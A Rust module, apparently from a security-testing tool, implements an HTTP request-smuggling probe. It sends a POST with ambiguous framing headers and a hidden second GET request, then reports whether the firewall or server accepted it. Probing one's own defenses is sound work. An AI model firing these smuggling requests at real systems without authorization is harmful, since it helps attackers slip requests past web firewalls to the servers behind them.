//! A request that two servers read as different requests.

use crate::door::{GuideDoor, ShutBy};
use crate::oracle;
use crate::payloads::waf::AMBIGUOUS_FRAMING;
use crate::probing::{Attack, AttackError, Probing};
use crate::verdict::{Attempts, Verdict};

pub(super) const ATTACK: Attack = Attack {
    name: "waf-smuggling",
    door: GuideDoor::Firewall,
    shut_by: ShutBy::Gate,
    thought: "Do the proxy and the server agree where my request ends?",
    needs: &[],
    run: |probing| Box::pin(run(probing)),
};

async fn run(p: Probing<'_>) -> Result<Verdict, AttackError> {
    let path = p.client.target(p.surface.endpoints.first().map_or("/", |endpoint| endpoint.path.as_str()));
    let authority = p.client.authority();
    let mut attempts = Attempts::default();
    for framing in AMBIGUOUS_FRAMING {
        let head =
            format!("POST {path} HTTP/1.1\r\nHost: {authority}\r\nUser-Agent: probe\r\n{framing}\r\n\r\n");
        let hidden = "GET /smuggled HTTP/1.1\r\nHost: x\r\nUser-Agent: probe\r\n\r\n";
        let (answer, seen) = p.client.send_raw(format!("{head}0\r\n\r\n{hidden}").as_bytes()).await?;
        if oracle::answered_twice(&answer) {
            let summary = "an ambiguous request is accepted, and what follows it is read as a second one";
            return Ok(Verdict::exploited(summary, vec![seen]));
        }
        attempts.blocked(seen);
    }
    Ok(attempts.verdict("ambiguous framing is refused and the connection closed", "no framing was tried"))
}
